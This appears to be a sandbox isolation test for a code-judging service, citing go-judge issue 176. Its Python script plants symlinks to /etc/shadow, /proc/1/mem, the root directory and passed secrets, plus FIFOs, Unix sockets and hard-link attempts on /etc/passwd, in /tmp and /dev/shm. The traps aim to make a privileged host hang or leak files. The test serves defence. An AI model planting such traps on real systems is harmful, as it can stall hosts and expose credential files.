# attack: links, FIFOs, sockets and folders where somebody privileged may collect files, so that he waits for ever, or hands out
#   what a link points to: go-judge's issue 176; and in the place of folders that are cleaned
# wall: nothing within is ever collected, written to or cleaned by the host; the writable places are replaced whole
# ending: exit 0
# output: fresh
# cases: 3
# arguments: {secrets}
# modules: socket
# within: 2s
import os
import socket
import sys

old = os.listdir("/tmp") + os.listdir("/dev/shm")
names = ["report.out", "special_files.py", "special_files.result.json", "stdout", "stderr", "tmp", "shm", "input", "case"]
for place in ("/tmp", "/dev/shm"):
    for number, name in enumerate(names):
        path = f"{place}/{name}"
        targets = sys.argv[1:] + ["/etc/shadow", "/usr/bin/python3", "/proc/1/mem"]
        os.symlink(targets[number % len(targets)], path)
        os.mkfifo(path + ".fifo", 0o777)
        one = socket.socket(socket.AF_UNIX)
        one.bind(path + ".socket")
        one.listen()
    os.symlink(place, f"{place}/loop")
    os.symlink("/", f"{place}/root")
    for target in ("/usr/src/submitter/special_files.py", "/usr/bin/python3.11", "/etc/passwd"):
        try:
            os.link(target, f"{place}/hard-{os.path.basename(target)}")
            old.append(f"{target} could be linked")
        except OSError:
            pass
print(*old or ["fresh"])
